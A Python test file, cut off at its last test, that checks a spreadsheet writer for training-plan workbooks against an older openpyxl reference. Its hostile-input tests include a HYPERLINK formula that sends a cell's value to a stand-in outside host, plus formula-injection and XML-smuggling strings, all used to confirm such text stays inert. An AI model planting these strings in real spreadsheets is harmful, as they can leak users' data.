"""The XlsxWriter workbooks hold what the openpyxl ones held.

``analysis.training.workbook`` wrote its workbooks with openpyxl, cell by cell, until the 100,000-
employee profile (benchmarks/results/profile_100k.md) showed them taking 266 s; it now writes them
with XlsxWriter in ``constant_memory`` mode. The openpyxl writer, as it was at commit 2200d21, is kept
below as the reference (only the last ``save_deterministic`` step replaced by ``wb.save``, and the
content it shares with the module, number formats, labels, rates and rows of people, taken from it): each test
writes the same input with both and reads both files back with openpyxl, sheet by sheet: sheet names
and order, every cell's value (formulas as their text) and data type, number formats, fonts, fills,
alignment, the quote prefix, links, frozen panes, column widths and merged cells. A reference that
runs beside the new writer follows the plan, the catalogue and the translations as they change;
when the workbook's content is changed on purpose, change the reference with it (or retire it).

Differences the comparison allows, each for a reason:
- a number is compared as a number: XlsxWriter writes a float with 16 significant digits (``%.16G``;
  openpyxl wrote 17 where a double needs them; Excel shows 15), and a whole float as ``5`` where
  openpyxl wrote ``5.0``, which openpyxl reads back as an int (a spreadsheet has only one kind);
- a link to a cohort's sheet is an internal link (``location``), as Excel writes one, where openpyxl
  wrote an external relationship to ``#'sheet'!A1``: both open the sheet;
- colours are written with an opaque alpha byte (FF) where openpyxl wrote 00 (Excel ignores it), and
  a font without a size (openpyxl's bold fonts) is the default 11 points XlsxWriter writes out;
- an empty cell has no data type (openpyxl wrote an empty text cell for "", XlsxWriter none).
And, outside these comparisons: the budget's formulas carry their computed results (openpyxl left
them empty: a reader that does not recalculate now sees the totals), a text holding ``_xHHHH_`` is
escaped as Excel expects, a U+FFFE or a lone surrogate no longer makes an unreadable file, and a
sheet name Excel refuses (ending with an apostrophe, over 31 UTF-16 units) is mended.
"""

from __future__ import annotations

import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import test_workbook as base
from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from analysis.core import i18n
from analysis.core.cells import write_cell
from analysis.core.codes import label
from analysis.core.disclosure import protect
from analysis.core.jsonsafe import scalar
from analysis.core.params import Params, Workshops
from analysis.core.privacy import RESTRICTED_LABEL
from analysis.training import development as D
from analysis.training import workbook as WB
from analysis.training import workshops as W
from analysis.training.workshops import REASONS, WorkshopPlan, need_table

# the realistic and the hostile plans of test_workbook, shared (module-scoped fixtures)
case, hostile, prog = base.case, base.hostile, base.prog

# --- the openpyxl writer of commit 2200d21 (the reference) ------------------------------------

# the number formats, the translations and the content (labels, rates, rows of people) are the
# module's own: the reference differs from it in how the cells are written, which is what is compared
RUPIAH, ONE_DECIMAL, TWO_DECIMALS, INTEGER, text = WB.RUPIAH, WB.ONE_DECIMAL, WB.TWO_DECIMALS, WB.INTEGER, WB.text
HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")
BANNER_FILL = PatternFill("solid", fgColor="F8CBAD")
BANNER_FONT = Font(bold=True, color="9C0006")
TITLE_FONT = Font(bold=True, size=14)
BOLD = Font(bold=True)


_BAD_SHEET_CHARS = re.compile(r"[\[\]:*?/\\]")


def sheet_name(base: str, used: set[str]) -> str:
    """An Excel-safe sheet name (<= 31 characters, no []:*?/\\, unique ignoring case)."""
    name = _BAD_SHEET_CHARS.sub("-", str(base)).strip().strip("'") or "Sheet"
    name = name[:31].rstrip()
    candidate, k = name, 2
    while candidate.lower() in used:
        suffix = f" ({k})"
        candidate = name[:31 - len(suffix)].rstrip() + suffix
        k += 1
    used.add(candidate.lower())
    return candidate


def _quoted(sheet: str) -> str:
    """A sheet name as it goes between the quotes of a reference ('O''Brien'!A1)."""
    return sheet.replace("'", "''")


# --- cell writing helpers -------------------------------------------------------------------
# Every cell goes through ``core.cells.write_cell``, which stores text from the data as text, never
# as a formula; only the budget's own formulas are assigned as formulas.


def _start(ws: Worksheet, title: str, lang: str, restricted: bool, subtitle: str | None = None) -> int:
    """Banner (restricted), title and optional subtitle; returns the next free row."""
    row = 1
    if restricted:
        write_cell(ws, 1, 1, f"{RESTRICTED_LABEL} - {text('wb.banner', lang)}").font = BANNER_FONT
        for c in range(1, 9):
            ws.cell(row=1, column=c).fill = BANNER_FILL
        row = 2
    write_cell(ws, row, 1, title).font = TITLE_FONT
    row += 1
    if subtitle:
        write_cell(ws, row, 1, subtitle).alignment = Alignment(wrap_text=False)
        row += 1
    return row + 1


def _header(ws: Worksheet, row: int, labels: list[str]) -> None:
    for j, lab in enumerate(labels, start=1):
        c = write_cell(ws, row, j, lab)
        c.font = BOLD
        c.fill = HEADER_FILL
        c.alignment = Alignment(wrap_text=True, vertical="top")


def _rows(ws: Worksheet, first_row: int, rows: list[list], formats: list[str | None]) -> int:
    """Write rows from ``first_row``; returns the row after the last one."""
    r = first_row
    for values in rows:
        for j, v in enumerate(values, start=1):
            c = write_cell(ws, r, j, scalar(v))
            if formats[j - 1]:
                c.number_format = formats[j - 1]
        r += 1
    return r


def _fit_columns(ws: Worksheet, from_row: int, minimum: int = 6, maximum: int = 60) -> None:
    """Column widths from the longest shown value at or below ``from_row`` (titles excluded)."""
    widths: dict[int, int] = {}
    for row in ws.iter_rows(min_row=from_row):
        for c in row:
            if c.value is None:
                continue
            v = c.value
            if c.data_type == "f":  # the workbook's own formulas; text from the data is never one
                n = 16
            elif isinstance(v, (int, float)) and c.number_format == RUPIAH:
                n = len(f"Rp {v:,.0f}")
            elif isinstance(v, float):
                n = len(f"{v:,.2f}")
            else:
                n = max(len(s) for s in str(v).split("\n"))
            widths[c.column] = max(widths.get(c.column, 0), n)
    for col, n in widths.items():
        ws.column_dimensions[get_column_letter(col)].width = max(minimum, min(maximum, n + 2))


# --- content --------------------------------------------------------------------------------










def openpyxl_workbook(plan: WorkshopPlan, candidates: pd.DataFrame, needs: pd.DataFrame, path: str | Path,
                   lang: str = "id", min_cell: int = 5, restricted: bool = True) -> Path:
    """Write the plan workbook to ``path`` (see the module docstring); returns the path."""
    if lang not in i18n.LANGUAGES:
        raise ValueError(f"language must be one of {i18n.LANGUAGES}, not {lang!r}")
    path = Path(path)
    sel = plan.selected.sort_values("option_id", kind="stable").reset_index(drop=True)
    classroom = sel[sel["mode"] == "klasikal"].reset_index(drop=True)
    nonclass = WB.nonclassroom_lines(sel)
    trainer_rate, venue_rate = WB.day_rates(candidates if len(candidates) else sel)
    people = _people_lookup(needs, lang)
    used: set[str] = set()
    wb = Workbook()

    # sheet names first, so the summary can point to each cohort's sheet
    names = {key: sheet_name(text(f"wb.sheet.{key}", lang), used)
             for key in ("summary", "budget", "nonclassroom", "left_out")}
    cohort_sheets = [sheet_name(f"{i + 1:02d} {r.program_id} {r.region}", used) if restricted else None
                     for i, r in enumerate(classroom.itertuples())]

    ws = wb.active
    ws.title = names["summary"]
    _summary(ws, plan, classroom, nonclass, cohort_sheets, lang, restricted)
    _budget(wb.create_sheet(names["budget"]), plan, classroom, nonclass, trainer_rate, venue_rate, lang, restricted)
    if restricted:
        for sheet, r in zip(cohort_sheets, classroom.itertuples()):
            _cohort(wb.create_sheet(sheet), r, people, lang)
        _nonclassroom(wb.create_sheet(names["nonclassroom"]), sel, people, lang)
    _left_out(wb.create_sheet(names["left_out"]), plan, lang, min_cell, restricted)
    wb.properties.creator = "asn-workbench"
    path.parent.mkdir(parents=True, exist_ok=True)
    wb.save(path)
    return path


def _summary(ws: Worksheet, plan: WorkshopPlan, classroom: pd.DataFrame, nonclass: pd.DataFrame,
             cohort_sheets: list, lang: str, restricted: bool) -> None:
    row = _start(ws, text("wb.title", lang), lang, restricted, text("wb.what", lang))
    d = plan.to_dict()
    left = d["left_out"]
    keys = [
        (text("wb.key.budget", lang), plan.budget, RUPIAH),
        (text("wb.key.cost", lang), plan.cost, RUPIAH),
        (text("wb.key.remaining", lang), plan.remaining, RUPIAH),
        (text("wb.key.gap_closed", lang), plan.value, ONE_DECIMAL),
        (text("wb.key.people", lang), plan.people, INTEGER),
        (text("wb.key.needs", lang), d["needs"], INTEGER),
        (text("wb.key.covered", lang), d["needs_covered"], INTEGER),
        (text("wb.key.jp", lang), plan.jp, ONE_DECIMAL),
        (text("wb.key.cohorts", lang), d["classroom_cohorts"], INTEGER),
        (text("wb.key.places", lang), int(nonclass["n"].sum()) if len(nonclass) else 0, INTEGER),
    ]
    keys += [(text("wb.key.left", lang, reason=text(f"wb.reason_short.{r}", lang)), left[r], INTEGER)
             for r in REASONS]
    keys.append((text("wb.key.optimal", lang), text("wb.yes" if plan.optimal else "wb.no", lang), None))
    for k, (lab, value, fmt) in enumerate(keys):  # two figures a row: label, value, label, value
        col = 1 if k % 2 == 0 else 4
        write_cell(ws, row, col, lab).font = BOLD
        c = write_cell(ws, row, col + 1, scalar(value))
        if fmt:
            c.number_format = fmt
        if k % 2 == 1:
            row += 1
    row += 1 if len(keys) % 2 == 0 else 2
    write_cell(ws, row, 1, text("wb.funded_table", lang)).font = BOLD
    row += 1
    cols = ["no", "sheet", "program_id", "program", "provider", "form", "region", "cluster", "competency",
            "participants", "days", "jp", "trainer_days", "cost"]
    header_row = row
    _header(ws, row, [text(f"wb.col.{c}", lang) for c in cols])
    rows = []
    for i, (r, sheet) in enumerate(zip(classroom.itertuples(), cohort_sheets), start=1):
        rows.append([i, sheet, r.program_id, r.program_name, r.provider, label("training_form", r.form, lang),
                     r.region, WB.cluster_label(r.cluster, r.cluster_name_id, r.cluster_name_en, lang),
                     WB.competency_label(r.competency_code, r.competency_name_id, r.competency_name_en, lang),
                     r.n, r.days, r.jp, r.trainer_days, r.cost])
    start = len(rows)
    for j, r in enumerate(nonclass.itertuples(), start=start + 1):
        rows.append([j, None, r.program_id, r.program_name, r.provider, label("training_form", r.form, lang),
                     r.region, None, None, r.n, r.days, r.jp, r.trainer_days, r.cost])
    if not rows:
        rows.append([None, text("wb.none", lang)] + [None] * (len(cols) - 2))
    fmts = [INTEGER, None, None, None, None, None, None, None, None, INTEGER, INTEGER, ONE_DECIMAL, TWO_DECIMALS,
            RUPIAH]
    _rows(ws, header_row + 1, rows, fmts)
    for i, sheet in enumerate(cohort_sheets):
        if sheet:
            ws.cell(row=header_row + 1 + i, column=2).hyperlink = f"#'{_quoted(sheet)}'!A1"
    ws.freeze_panes = ws.cell(row=header_row + 1, column=1)
    _fit_columns(ws, header_row)
    for col in ("A", "D"):  # the key figures' labels
        ws.column_dimensions[col].width = max(ws.column_dimensions[col].width or 0, 30)


def _budget(ws: Worksheet, plan: WorkshopPlan, classroom: pd.DataFrame, nonclass: pd.DataFrame,
            trainer_rate: float, venue_rate: float, lang: str, restricted: bool) -> None:
    row = _start(ws, text("wb.budget.title", lang), lang, restricted)
    cols = ["no", "item", "form", "participants", "fee", "trainer_days", "trainer_rate", "venue_days",
            "venue_rate", "total"]
    header_row = row
    _header(ws, row, [text(f"wb.col.{c}", lang) for c in cols])
    fmts = [INTEGER, None, None, INTEGER, RUPIAH, TWO_DECIMALS, RUPIAH, TWO_DECIMALS, RUPIAH, RUPIAH]
    lines = []
    for r in classroom.itertuples():
        item = text("wb.budget.cohort_item", lang, program=f"{r.program_id} {r.program_name}", region=r.region,
                    cluster=WB.cluster_label(r.cluster, r.cluster_name_id, r.cluster_name_en, lang),
                    k=r.cohort, of=r.n_cohorts)
        lines.append((item, r.form, r.n, r.cost_per_participant, r.trainer_days, r.venue_days))
    for r in nonclass.itertuples():
        item = text("wb.budget.nonclassroom_item", lang, program=f"{r.program_id} {r.program_name}",
                    region=r.region, n=int(r.n))
        lines.append((item, r.form, r.n, r.cost_per_participant, r.trainer_days, r.venue_days))
    first = header_row + 1
    r_i = first
    for i, (item, form, n, fee, tdays, vdays) in enumerate(lines, start=1):
        values = [i, item, label("training_form", form, lang), int(n), float(fee), float(tdays), trainer_rate,
                  float(vdays), venue_rate, f"=D{r_i}*E{r_i}+F{r_i}*G{r_i}+H{r_i}*I{r_i}"]
        for j, v in enumerate(values, start=1):
            # the line's total is the workbook's own formula; every other cell holds data
            c = ws.cell(row=r_i, column=j, value=v) if j == len(values) else write_cell(ws, r_i, j, v)
            if fmts[j - 1]:
                c.number_format = fmts[j - 1]
        r_i += 1
    last = max(r_i - 1, first)
    total_row = r_i if lines else first + 1
    write_cell(ws, total_row, 2, text("wb.budget.total", lang)).font = BOLD
    for col, fmt in (("D", INTEGER), ("F", TWO_DECIMALS), ("H", TWO_DECIMALS), ("J", RUPIAH)):
        c = ws[f"{col}{total_row}"]
        c.value = f"=SUM({col}{first}:{col}{last})"
        c.number_format = fmt
        c.font = BOLD
    write_cell(ws, total_row + 2, 2, text("wb.budget.budget", lang)).font = BOLD
    b = write_cell(ws, total_row + 2, 10, float(plan.budget))
    b.number_format = RUPIAH
    write_cell(ws, total_row + 3, 2, text("wb.budget.left", lang)).font = BOLD
    left = ws.cell(row=total_row + 3, column=10, value=f"=J{total_row + 2}-J{total_row}")
    left.number_format = RUPIAH
    left.font = BOLD
    ws.freeze_panes = ws.cell(row=header_row + 1, column=1)
    _fit_columns(ws, header_row)


def _people_lookup(needs: pd.DataFrame, lang: str) -> dict[tuple, list]:
    """(employee, competency) -> [unit, region, position class, gap, basis] as shown in rosters."""
    if not len(needs):
        return {}
    nt = need_table(needs)
    basis = {"current": text("wb.basis.current", lang), "target": text("wb.basis.target", lang)}
    return {(e, c): [u, r, label("position_class", pc, lang) if isinstance(pc, str) else None,
                     None if pd.isna(g) else float(g), basis.get(b) if isinstance(b, str) else None]
            for e, c, u, r, pc, g, b in zip(nt["employee_id"], nt["competency_code"], nt["unit_id"], nt["region"],
                                            nt["position_class"], nt["gap"], nt["basis"])}




def _cohort(ws: Worksheet, r, people: dict, lang: str) -> None:
    cluster = WB.cluster_label(r.cluster, r.cluster_name_id, r.cluster_name_en, lang)
    row = _start(ws, text("wb.cohort.title", lang, program=f"{r.program_id} {r.program_name}", region=r.region,
                          cluster=cluster, k=r.cohort, of=r.n_cohorts), lang, True)
    sched = ["program_id", "provider", "form", "competency", "region", "cluster", "participants", "days", "jp",
             "trainer_days", "cost", "start", "venue"]
    _header(ws, row, [text(f"wb.col.{c}", lang) for c in sched])
    _rows(ws, row + 1, [[r.program_id, r.provider, label("training_form", r.form, lang),
                         WB.competency_label(r.competency_code, r.competency_name_id, r.competency_name_en, lang),
                         r.region, cluster, r.n, r.days, r.jp, r.trainer_days, r.cost, None, None]],
          [None, None, None, None, None, None, INTEGER, INTEGER, ONE_DECIMAL, TWO_DECIMALS, RUPIAH, None, None])
    row += 3
    write_cell(ws, row, 1, text("wb.cohort.roster", lang)).font = BOLD
    row += 1
    roster = ["no", "employee", "unit", "region", "position_class", "gap", "basis", "attended"]
    _header(ws, row, [text(f"wb.col.{c}", lang) for c in roster])
    rows = [[i, *p, None] for i, p in enumerate(WB.person_rows(list(r.participants), r.competency_code, people, lang),
                                                start=1)]
    _rows(ws, row + 1, rows, [INTEGER, None, None, None, None, ONE_DECIMAL, None, None])
    ws.freeze_panes = ws.cell(row=row + 1, column=1)
    _fit_columns(ws, row - 4)


def _nonclassroom(ws: Worksheet, sel: pd.DataFrame, people: dict, lang: str) -> None:
    row = _start(ws, text("wb.nonclassroom.title", lang), lang, True)
    cols = ["no", "employee", "unit", "region", "position_class", "gap", "basis", "competency", "program_id",
            "program", "form", "provider", "jp", "cost"]
    _header(ws, row, [text(f"wb.col.{c}", lang) for c in cols])
    nc = sel[sel["mode"] != "klasikal"].explode("participants")
    nc = nc.sort_values(["region", "competency_code", "program_id", "participants"], kind="stable")
    rows = []
    for i, r in enumerate(nc.itertuples(), start=1):
        person = WB.person_rows([r.participants], r.competency_code, people, lang)[0]
        rows.append([i, *person, WB.competency_label(r.competency_code, r.competency_name_id, r.competency_name_en,
                                                   lang),
                     r.program_id, r.program_name, label("training_form", r.form, lang), r.provider, r.jp,
                     r.cost / r.n])
    if not rows:
        rows.append([None, text("wb.none", lang)] + [None] * (len(cols) - 2))
    _rows(ws, row + 1, rows, [INTEGER, None, None, None, None, ONE_DECIMAL, None, None, None, None, None, None,
                              ONE_DECIMAL, RUPIAH])
    ws.freeze_panes = ws.cell(row=row + 1, column=1)
    _fit_columns(ws, row)


def _left_out(ws: Worksheet, plan: WorkshopPlan, lang: str, min_cell: int, restricted: bool) -> None:
    lo = plan.left_out.copy()
    lo["_reason"] = pd.Categorical(lo["reason"], categories=list(REASONS), ordered=True)
    subtitle = None if restricted else text("wb.left_out.suppressed", lang, n=min_cell)
    row = _start(ws, text("wb.left_out.title", lang), lang, restricted, subtitle)
    if restricted:
        cols = ["no", "employee", "unit", "region", "position_class", "cluster", "competency", "gap", "basis",
                "reason"]
        _header(ws, row, [text(f"wb.col.{c}", lang) for c in cols])
        lo = lo.sort_values(["_reason", "region", "competency_code", "employee_id"], kind="stable")
        rows = [[i, r.employee_id, r.unit_id, r.region,
                 label("position_class", r.position_class, lang) if isinstance(r.position_class, str) else None,
                 WB.cluster_label(r.cluster, r.cluster_name_id, r.cluster_name_en, lang),
                 WB.competency_label(r.competency_code, r.competency_name_id, r.competency_name_en, lang),
                 None if pd.isna(r.gap) else float(r.gap),
                 None if not isinstance(r.basis, str) else
                 text(f"wb.basis.{'current' if r.basis == 'current' else 'target'}", lang),
                 text(f"wb.reason.{r.reason}", lang)]
                for i, r in enumerate(lo.itertuples(), start=1)]
        fmts = [INTEGER, None, None, None, None, None, None, ONE_DECIMAL, None, None]
    else:
        cols = ["reason", "region", "competency", "count"]
        _header(ws, row, [text(f"wb.col.{c}", lang) for c in cols])
        counts = (lo.groupby(["_reason", "region", "competency_code"], observed=True, sort=True)
                  .size().rename("n").reset_index().rename(columns={"_reason": "reason_code"}))
        counts = protect(counts, min_cell, value_cols=["n"], counts=True)
        rows = [[text(f"wb.reason.{r.reason_code}", lang), r.region, r.competency_code,
                 None if pd.isna(r.n) else int(r.n)] for r in counts.itertuples()]
        fmts = [None, None, None, INTEGER]
    if not rows:
        rows.append([None, text("wb.none", lang)] + [None] * (len(cols) - 2))
    _rows(ws, row + 1, rows, fmts)
    ws.freeze_panes = ws.cell(row=row + 1, column=1)
    _fit_columns(ws, row)


def openpyxl_table(df: pd.DataFrame, path: str | Path, title: str, lang: str = "id", restricted: bool = True,
                money: tuple[str, ...] = (), one_decimal: tuple[str, ...] = ()) -> Path:
    """One formatted sheet of a table (banner, title, bold frozen header, widths, Rupiah)."""
    wb = Workbook()
    ws = wb.active
    ws.title = sheet_name(title, set())
    row = _start(ws, title, lang, restricted)
    _header(ws, row, [str(c) for c in df.columns])
    formats = [RUPIAH if c in money else ("0.0" if c in one_decimal else None) for c in df.columns]
    _rows(ws, row + 1, df.itertuples(index=False, name=None), formats)
    ws.freeze_panes = ws.cell(row=row + 1, column=1)
    _fit_columns(ws, row)
    path = Path(path)
    wb.save(path)
    return path


# --- reading a workbook back ------------------------------------------------------------------


def _rgb(color) -> str | None:
    """An RGB colour without its alpha byte; None for the default (theme) colour."""
    return color.rgb[-6:] if color is not None and color.type == "rgb" else None


def _link(cell) -> str | None:
    """Where a cell's link leads, however it is written (an internal location or a '#' target)."""
    h = cell.hyperlink
    if h is None:
        return None
    return h.location if h.location else (h.target[1:] if h.target and h.target.startswith("#") else h.target)


def _cell(c) -> dict:
    return {"value": c.value, "type": c.data_type if c.value is not None else None, "format": c.number_format,
            "bold": bool(c.font.b), "size": c.font.sz or 11.0, "color": _rgb(c.font.color),
            "fill": (c.fill.fill_type, _rgb(c.fill.fgColor)) if c.fill.fill_type else None,
            "wrap": bool(c.alignment.wrap_text), "valign": c.alignment.vertical, "quote": bool(c.quotePrefix),
            "link": _link(c)}


def _widths(ws) -> dict[int, float]:
    """Column -> width, each <col> range spread over its columns (XlsxWriter joins equal neighbours)."""
    return {i: d.width for d in ws.column_dimensions.values() if d.customWidth for i in range(d.min, d.max + 1)}


def snapshot(path: Path) -> dict:
    """What a workbook shows: per sheet, every cell that holds a value or a style, the frozen panes,
    the column widths and the merged cells."""
    wb = openpyxl.load_workbook(path)
    sheets = {}
    for ws in wb.worksheets:
        cells = {}
        for row in ws.iter_rows():
            for c in row:
                d = _cell(c)
                if c.value is not None or d["format"] != "General" or d["bold"] or d["fill"] or d["quote"]:
                    cells[c.coordinate] = d
        sheets[ws.title] = {"cells": cells, "freeze": ws.freeze_panes, "widths": _widths(ws),
                            "merged": sorted(str(r) for r in ws.merged_cells.ranges)}
    return {"names": wb.sheetnames, "sheets": sheets}


def _same_value(a, b) -> bool:
    if isinstance(a, float) and isinstance(b, (int, float)) and not isinstance(b, bool):
        return a == b or float(f"{a:.16G}") == b  # XlsxWriter writes 16 significant digits
    return a == b and type(a) is type(b)


def assert_same(old: Path, new: Path) -> None:
    a, b = snapshot(old), snapshot(new)
    assert a["names"] == b["names"]
    for name in a["names"]:
        sa, sb = a["sheets"][name], b["sheets"][name]
        assert sa["freeze"] == sb["freeze"], name
        assert sa["widths"] == sb["widths"], name
        assert sa["merged"] == sb["merged"] == [], name
        assert sa["cells"].keys() == sb["cells"].keys(), (name, sa["cells"].keys() ^ sb["cells"].keys())
        for ref, ca in sa["cells"].items():
            cb = sb["cells"][ref]
            assert _same_value(ca["value"], cb["value"]), (name, ref, ca["value"], cb["value"])
            ca, cb = {**ca, "value": None}, {**cb, "value": None}
            assert ca == cb, (name, ref, ca, cb)


# --- the content is the same ------------------------------------------------------------------


def _catalog() -> pd.DataFrame:
    """The catalogue of test_workbook's ``case``."""
    return pd.DataFrame([prog("P01", "M.01", "workshop", 12, 1_450_000, 8, 38),
                         prog("P02", "M.01", "coaching", 8, 750_000, 1, 3),
                         prog("P03", "M.02", "e_learning", 10, 100_000, 1, 500),
                         prog("P04", "T.guru.1", "bimtek", 13, 2_900_000, 12, 28)])


@pytest.mark.parametrize("lang,restricted", [("id", True), ("en", True), ("id", False), ("en", False)])
def test_plan_workbook_same_as_openpyxl(case, tmp_path, lang, restricted):
    needs, cands, plan = case
    old = openpyxl_workbook(plan, cands, needs, tmp_path / "old.xlsx", lang=lang, restricted=restricted)
    new = WB.write_workbook(plan, cands, needs, tmp_path / "new.xlsx", lang=lang, restricted=restricted)
    assert_same(old, new)
    if restricted:  # the cohorts' sheets are there, and the summary leads to them
        links = [c["link"] for c in snapshot(new)["sheets"]["Ringkasan" if lang == "id" else "Summary"]["cells"]
                 .values() if c["link"]]
        assert len(links) == int((plan.selected["mode"] == "klasikal").sum()) >= 2


def test_empty_plan_same_as_openpyxl(case, tmp_path):
    needs, cands, _ = case
    plan = W.plan_workshops(cands, 0.0, needs)
    assert_same(openpyxl_workbook(plan, cands, needs, tmp_path / "old.xlsx"),
                WB.write_workbook(plan, cands, needs, tmp_path / "new.xlsx"))


@pytest.mark.parametrize("lang,restricted", [("id", True), ("en", False)])
def test_hostile_plan_same_as_openpyxl(hostile, tmp_path, lang, restricted):
    needs, _, cands, plan = hostile
    assert_same(openpyxl_workbook(plan, cands, needs, tmp_path / "old.xlsx", lang=lang, restricted=restricted),
                WB.write_workbook(plan, cands, needs, tmp_path / "new.xlsx", lang=lang, restricted=restricted))


def _plans(needs, plan, cat) -> pd.DataFrame:
    return D.development_plans(needs, plan, cat, Params(workshops=Workshops(max_cohort=20)))


PLANS_FORMATS = {"money": ("cost", "cost_funded", "cost_unfunded"), "one_decimal": ("total_gap", "gap_closed",
                                                                                      "jp_total")}


def test_development_plans_table_same_as_openpyxl(case, hostile, tmp_path):
    needs, _, plan = case
    plans = _plans(needs, plan, _catalog())
    assert len(plans) > 50 and plans.isna().any().any()  # missing values among them
    for name, df in (("plans", plans), ("hostile", _plans(hostile[0], hostile[3], hostile[1]))):
        assert_same(openpyxl_table(df, tmp_path / f"{name}_old.xlsx", "Rencana pengembangan individu",
                                   **PLANS_FORMATS),
                    WB.write_table(df, tmp_path / f"{name}_new.xlsx", "Rencana pengembangan individu",
                                   **PLANS_FORMATS))
    en = plans.head(0)  # no rows, not restricted, English
    assert_same(openpyxl_table(en, tmp_path / "e_old.xlsx", "Plans", "en", restricted=False),
                WB.write_table(en, tmp_path / "e_new.xlsx", "Plans", "en", restricted=False))


LINK = '=HYPERLINK("http://x.example/?d="&A1,"klik")'
TEXTS = [LINK, "=1+1", "+1", "@SUM(A1:A9)", "-Sigi", "-5", "+0.25", "\t=1+1", "\r=1+1", "a\r\nb", "a\rb", "#N/A",
         "ctrl\x01\x02\x1f", "  both  ", "x" * 40_000, "line 1\nline 22\nl3", "<r><t>rich</t></r>", "<b>&amp;</b>",
         "ü 中文 😀", "", None]


def test_every_kind_of_value_same_as_openpyxl(tmp_path):
    n = len(TEXTS)
    df = pd.DataFrame({
        "text": TEXTS,
        "int": np.arange(n, dtype="int64") * 1_000_003 - 7,
        "float": [0.1 + 0.2, 1 / 3, -0.0, 1e17, -2.5, np.nan, np.inf, -np.inf, 123456.789, 2 / 3, 1e-9,
                  None, 5.0, -1234.5678, 0.0, 3.0, 7.25, 1e15 + 0.3, -0.001, 99.995, 42.0],
        "rupiah": np.linspace(-1e9, 3.5e9, n),
        "money_int": np.arange(n, dtype="int64") * 987_654,
        "flag": [i % 3 == 0 for i in range(n)],
        "nullable": pd.array([i if i % 4 else None for i in range(n)], dtype="Int64"),
        "maybe": pd.array([None if i % 5 == 0 else bool(i % 2) for i in range(n)], dtype="boolean"),
        "category": pd.Categorical(["Palu", "=Sigi", None] * 7),
        "mixed": [1, "a", 2.5, None, True, np.int64(4), np.float64(np.nan), pd.NA, Decimal("1.25"),
                  date(2024, 5, 6), datetime(2024, 5, 6, 7, 8, 9), pd.Timestamp("2025-01-02 03:04:05"), pd.NaT,
                  np.float32(0.1), "x", "=x", 0, -1, 10**15, "", "tail"],
        "when": pd.to_datetime(["2024-01-31"] * 10 + [None] + ["2023-12-01 10:30"] * 10, format="ISO8601"),
    })
    df["=HYPERLINK(1)"] = "header from the data"  # a column label is text from the data too
    kw = {"money": ("rupiah", "money_int", "mixed"), "one_decimal": ("float", "nullable")}
    for restricted in (True, False):
        assert_same(openpyxl_table(df, tmp_path / "old.xlsx", "=Table: a/b", restricted=restricted, **kw),
                    WB.write_table(df, tmp_path / "new.xlsx", "=Table: a/b", restricted=restricted, **kw))


# --- same bytes, text stays text, atomic writing -----------------------------------------------


def test_same_input_same_bytes(case, tmp_path):
    needs, cands, plan = case
    plans = _plans(needs, plan, _catalog())
    for k in ("a", "b"):
        (tmp_path / k).mkdir()
        WB.write_workbook(plan, cands, needs, tmp_path / k / "plan.xlsx")
        WB.write_table(plans, tmp_path / k / "plans.xlsx", "Rencana", **PLANS_FORMATS)
    for name in ("plan.xlsx", "plans.xlsx"):
        a, b = (tmp_path / "a" / name).read_bytes(), (tmp_path / "b" / name).read_bytes()
        assert a == b, name
        with zipfile.ZipFile(tmp_path / "a" / name) as z:
            core = z.read("docProps/core.xml").decode()
            assert "2000-01-01T00:00:00Z" in core and "asn-workbench" in core
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == sorted(["plan.xlsx", "plans.xlsx"] * 2)


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))


def test_hostile_text_stays_text(tmp_path):
    injection = '<r><t>x</t></r></is></c><c r="Z9"><f>1+1</f></c><c><is><r><t>y</t></r>'
    df = pd.DataFrame({"employee_id": ["=1+1", "@SUM(A1)", injection, "+62 Palu", "-5"], "n": [1, 2, 3, 4, 5]})
    path = WB.write_table(df, tmp_path / "t.xlsx", "=1+1", restricted=True)
    assert "<f>" not in _sheet_xml(path)  # no formula at all, not even one smuggled in as XML
    ws = openpyxl.load_workbook(path).active
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for value in df["employee_id"]:
        assert cells[value].data_type == "s"
    assert cells["=1+1"].quotePrefix and cells["@SUM(A1)"].quotePrefix and not cells["-5"].quotePrefix
    assert ws["A2"].value == "=1+1" and ws["A2"].quotePrefix  # the title, from the caller, is text too


def test_characters_the_openpyxl_writer_broke_on_are_replaced(tmp_path):
    """A lone surrogate or U+FFFE made openpyxl write a file no reader opens; now the first becomes
    U+FFFD (as write_cell does for control characters) and the second is escaped as Excel expects."""
    df = pd.DataFrame({"t": pd.Series(["a\ud800b", "c\ufffed"], dtype=object)})  # no str dtype holds the first
    ws = openpyxl.load_workbook(WB.write_table(df, tmp_path / "t.xlsx", "T", restricted=False)).active
    assert [ws["A4"].value, ws["A5"].value] == ["a\ufffdb", "c_xFFFE_d"]  # openpyxl does not unescape _xHHHH_


def test_budget_formulas_carry_their_results(case, tmp_path):
    needs, cands, plan = case
    path = WB.write_workbook(plan, cands, needs, tmp_path / "plan.xlsx")
    formulas = openpyxl.load_workbook(path)["Anggaran"]
    results = openpyxl.load_workbook(path, data_only=True)["Anggaran"]
    total_row = next(c.row for c in formulas["B"] if c.value == "Total")
    assert formulas[f"J{total_row}"].value.startswith("=SUM(J")
    assert results[f"J{total_row}"].value == pytest.approx(plan.cost, abs=1.0)
    assert results[f"J{total_row + 3}"].value == pytest.approx(plan.remaining, abs=1.0)
    assert results[f"D{total_row}"].value == plan.selected["n"].sum()


def test_written_whole_or_not_at_all(tmp_path):
    path = tmp_path / "plans.xlsx"
    path.write_bytes(b"the previous file")
    bad = pd.DataFrame({"a": ["fine"] * 3 + [object()]})  # no spreadsheet holds an object: fails mid-way
    with pytest.raises(ValueError, match="Cannot convert"):
        WB.write_table(bad, path, "T")
    assert path.read_bytes() == b"the previous file"
    assert [p.name for p in tmp_path.iterdir()] == ["plans.xlsx"]  # no temporary file or folder left
    WB.write_table(bad.head(3), path, "T")
    assert openpyxl.load_workbook(path).active["A5"].value == "fine"


def test_rows_past_a_worksheet_are_an_error_not_left_out(tmp_path):
